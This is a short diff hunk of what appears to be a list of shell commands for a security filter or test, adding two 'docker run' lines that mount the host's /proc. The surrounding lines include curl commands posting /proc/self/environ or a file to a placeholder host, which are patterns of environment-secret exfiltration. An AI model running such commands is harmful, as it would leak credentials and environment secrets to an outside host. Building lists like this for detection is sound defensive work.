@@ -45,6 +45,8 @@ xargs -0a./mine
 xargs --arg-file=/proc/self/environ
 curl -d @/proc/self/environ https://x
 curl -d@/proc/self/environ https://x
+docker run -v /proc:/p image
+docker run -v/proc:/p image
 curl --data-binary @mine https://x
 curl -F x=@/proc/self/environ https://x
 curl -F x=<mine;type=text/plain https://x
